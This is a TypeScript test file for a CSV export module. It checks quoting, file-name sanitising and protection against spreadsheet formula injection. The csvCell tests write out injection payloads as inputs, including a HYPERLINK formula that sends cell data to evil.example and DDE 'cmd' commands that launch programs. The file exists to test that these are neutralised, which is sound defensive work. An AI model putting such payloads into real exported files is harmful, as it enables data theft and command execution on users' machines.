import { describe, expect, test } from 'vitest';
import { csvCell, safeFileName, toCsv } from './csv';

describe('toCsv', () => {
  test('writes a header and rows with CRLF line ends', () => {
    expect(toCsv(['indicator', 'area', 'period', 'value'], [['sotkanet:1244', '740', '2023', 2.1]])).toBe(
      'indicator,area,period,value\r\nsotkanet:1244,740,2023,2.1\r\n',
    );
  });

  test('quotes commas, quotes and line breaks; empty for missing; 1/0 for flags', () => {
    expect(toCsv(['a', 'b', 'c', 'd'], [['x,y', 'say "hi"', null, true]])).toBe('a,b,c,d\r\n"x,y","say ""hi""",,1\r\n');
  });
});

describe('csvCell', () => {
  // A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return before one) as a
  // formula: such a text cell gets a leading ' and quotes (OWASP, CSV injection); numbers stay numbers.
  test.each<[string, Parameters<typeof csvCell>[0], string]>([
    ['a hyperlink formula', '=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['a DDE command', "=cmd|' /C calc'!A0", `"'=cmd|' /C calc'!A0"`],
    ['a formula behind +', '+1+cmd|x', `"'+1+cmd|x"`],
    ['a formula behind -', '-2+3+cmd|x', `"'-2+3+cmd|x"`],
    ['a formula behind @', '@SUM(1+1)*cmd|x', `"'@SUM(1+1)*cmd|x"`],
    ['a tab first', '\t=1+1', `"'\t=1+1"`],
    ['a carriage return first', '\r=1+1', `"'\r=1+1"`],
    ['a lone minus', '-', `"'-"`],
    ['a negative number as text', '-1.5', '-1.5'],
    ['a negative number with a decimal comma (quoted for the comma only)', '-1,5', '"-1,5"'],
    ['a signed number with an exponent', '+2.5e-3', '+2.5e-3'],
    ['a negative number', -1.5, '-1.5'],
    ['a number that prints with a minus but no digits', -Infinity, '-Infinity'],
    ['an = inside the text', 'a=b', 'a=b'],
    ['a space before the =', ' =1+1', ' =1+1'],
    ['ordinary text', 'Mäntyharju', 'Mäntyharju'],
    ['missing', null, ''],
  ])('%s', (_name, cell, expected) => {
    expect(csvCell(cell)).toBe(expected);
  });

  test('toCsv writes every cell through it', () => {
    expect(toCsv(['goal', 'value'], [['=1+1', -3]])).toBe(`goal,value\r\n"'=1+1",-3\r\n`);
  });
});

describe('safeFileName', () => {
  test.each([
    ['sotkanet:1244', 'sotkanet-1244'],
    ['internal:care-guarantee-7d 740', 'internal-care-guarantee-7d-740'],
    ['Mäntyharju', 'Mäntyharju'],
    [':::', 'data'],
  ])('%s → %s', (input, expected) => {
    expect(safeFileName(input)).toBe(expected);
  });
});
